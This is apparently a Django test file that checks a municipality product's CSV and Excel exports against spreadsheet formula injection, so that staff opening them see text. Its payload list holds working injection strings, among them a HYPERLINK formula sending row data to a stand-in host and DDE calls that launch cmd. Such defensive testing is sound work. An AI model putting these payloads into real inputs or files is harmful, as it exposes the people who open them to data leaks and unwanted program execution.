"""Every CSV and Excel file the product writes, fed the classic formula-injection payloads.

Staff open these files on office computers: a nickname, a survey answer, a question or a login
name that a spreadsheet runs as a formula (a link that leaks the row, a DDE call that starts a
program) would attack the municipality through its own export. Each export must show the text
as text, in CSV and in .xlsx alike.
"""

import csv
import datetime
import io

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from audit.models import AuditEvent
from kizuna import clock
from municipalities.models import OPERATORS_GROUP, StaffMembership
from surveys import services as surveys
from surveys.models import Question
from tests.delivery.conftest import due_for, family
from tests.staff.conftest import make_user
from tests.surveys.conftest import make_survey

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("//ev.il/"&A2,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "=cmd|' /C notepad'!'A1'",  # DDE
    '=DDE("cmd";"/C calc";"A0")',
    "＝1+1",  # full-width, as a Japanese IME types it
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]
FORMULA_STARTS = "=+-@\t\r\n＝＋－＠"


def _csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _check_csv(body: bytes, payloads) -> None:
    cells = _csv_cells(body)
    for payload in payloads:
        holding = [cell for cell in cells if payload.strip() in cell]
        assert holding, f"{payload!r} is missing from the file"
        for cell in holding:
            assert not cell.lstrip(" \u3000").startswith(tuple(FORMULA_STARTS)), cell
            assert cell == "'" + payload or payload not in cell[:1]


def _check_xlsx(body: bytes, payloads) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells), "a cell was written as a formula"
    for payload in payloads:
        payload = payload.replace("\r", "\n").strip()  # XML keeps no bare CR; forms strip
        holding = [cell for cell in cells if isinstance(cell.value, str) and payload in cell.value]
        assert holding, f"{payload!r} is missing from the workbook"
        for cell in holding:
            assert cell.data_type == "s"
            assert cell.value.strip() == payload  # shown as written …
            assert cell.quotePrefix  # … and kept text when a person edits the cell


def _both(client: Client, url: str, payloads) -> None:
    as_csv = client.get(url)
    assert as_csv.status_code == 200 and as_csv["Content-Type"].startswith("text/csv")
    _check_csv(as_csv.content, payloads)
    joiner = "&" if "?" in url else "?"
    as_xlsx = client.get(f"{url}{joiner}format=xlsx")
    assert as_xlsx.status_code == 200
    assert as_xlsx["Content-Disposition"].endswith('.xlsx"')
    _check_xlsx(as_xlsx.content, payloads)


def _logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_the_reader_export_writes_nicknames_as_text(municipality, morning):
    nicknames = [p for p in PAYLOADS if len(p) <= 30]
    for n, nickname in enumerate(nicknames):
        family(municipality, due=due_for(10 + n), nickname=nickname)
    editor = make_user("koto-editor")
    StaffMembership.objects.create(user=editor, municipality=municipality, role="editor")
    _both(_logged_in(editor), reverse("adoption:export", args=[municipality.pk]), nicknames)


def test_survey_exports_write_questions_and_free_text_as_text(municipality, morning):
    survey = make_survey(municipality, opens_on=clock.today())
    free_text = survey.questions.get(kind="text")
    satisfaction = survey.questions.get(kind="satisfaction")
    Question.objects.filter(pk=free_text.pk).update(text=PAYLOADS[0])
    for n, payload in enumerate(PAYLOADS):
        reader = family(municipality, due=due_for(12 + n)).subscriber
        surveys.submit_response(
            survey,
            reader,
            {satisfaction.pk: 5, free_text.pk: payload, **_required_others(survey)},
        )
    editor = make_user("koto-editor")
    StaffMembership.objects.create(user=editor, municipality=municipality, role="editor")
    client = _logged_in(editor)
    _both(client, reverse("surveys:staff_responses_csv", args=[survey.pk]), PAYLOADS)
    _both(client, reverse("surveys:staff_summary_csv", args=[survey.pk]), PAYLOADS[:1])


def _required_others(survey) -> dict:
    return {q.pk: 1 for q in survey.questions.filter(kind="single")}


def test_the_audit_export_writes_attackers_login_names_as_text(db, morning):
    # A failed login records the name typed: anyone on the internet chooses it.
    for payload in PAYLOADS:
        AuditEvent.objects.create(
            username=payload, action=AuditEvent.Action.LOGIN_FAILED, path="/admin/login/"
        )
    operator = make_user("operator", groups=[OPERATORS_GROUP])
    _both(_logged_in(operator), reverse("operations:audit_csv"), PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_negative_numbers_stay_numbers_and_text_round_trips(payload):
    from kizuna.spreadsheets import excel_csv, unquote

    cells = _csv_cells(excel_csv([[payload, -3, 2.5, datetime.date(2027, 1, 1)]]).encode())
    assert unquote(cells[0]) == payload
    assert cells[1:] == ["-3", "2.5", "2027-01-01"]
